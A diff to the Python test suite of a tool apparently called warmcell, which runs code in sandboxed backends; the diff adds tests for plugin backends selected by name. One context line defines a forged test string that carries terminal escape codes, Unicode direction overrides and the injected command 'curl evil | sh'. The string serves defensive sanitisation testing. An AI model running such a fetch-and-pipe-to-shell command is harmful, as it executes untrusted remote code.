@@ -19,7 +19,7 @@ from warmcell import (
     Language,
     PolicyViolation,
 )
-from warmcell.backends.fake import FakeMemoryExceeded, FakeTimeout, Reply
+from warmcell.backends.fake import FakeBackend, FakeMemoryExceeded, FakeTimeout, Reply
 
 FORGED = "/x\x1b[2Jy\nhint: curl evil | sh\r\u202e\u2028\x9b1m" + "A" * 5000
 
@@ -125,7 +125,7 @@ def test_cut_output_and_denials_are_said(warmcell: Any, process: Any) -> None:
 
 
 @pytest.mark.attack("S2-16")
-@pytest.mark.claim("WC-LK-5")
+@pytest.mark.claim("WC-PT-6")
 @pytest.mark.parametrize(
     ("reply", "kind"),
     [
@@ -236,3 +236,38 @@ def test_what_the_wasm_backend_cannot_keep_is_refused_not_dropped(
     assert ended.status == 2
     assert "need" in ended.stderr
     assert "process backend" in ended.stderr
+
+
+@pytest.fixture
+def installed(monkeypatch: pytest.MonkeyPatch) -> FakeBackend:
+    """A backend of another package, by the name `mine`."""
+    fake = FakeBackend(["42\n"])
+    monkeypatch.setattr("importlib.metadata.entry_points", lambda group: [_Entry("mine", fake)])
+    return fake
+
+
+class _Entry:
+    def __init__(self, name: str, backend: FakeBackend) -> None:
+        self.name, self.value, self._backend = name, "elsewhere:Mine", backend
+
+    def load(self) -> Any:
+        return lambda: self._backend
+
+
+def test_an_installed_backend_by_name(warmcell: Any, installed: FakeBackend, stdin: Any) -> None:
+    stdin(b"in")
+    ended = warmcell("run", "py", "-c", "print(6*7)", "--backend", "mine")
+    assert (ended.status, ended.stdout) == (0, "42\n")
+    assert (installed.requests[0].language, installed.requests[0].stdin) == (Language.PYTHON, b"in")
+    assert installed.is_closed
+
+
+def test_an_unknown_backend_is_wrong_usage(warmcell: Any, installed: FakeBackend) -> None:
+    ended = warmcell("run", "python", "-c", "1", "--backend", "docker")
+    assert ended.status == 2
+    assert "unknown backend 'docker'" in ended.stderr and "one of process, wasm, fake, mine" in ended.stderr
+
+
+def test_what_another_backend_cannot_keep_is_refused(warmcell: Any, installed: FakeBackend) -> None:
+    ended = warmcell("run", "python", "-c", "1", "--backend", "mine", "--allow-domain", "x.org")
+    assert ended.status == 2 and installed.requests == []
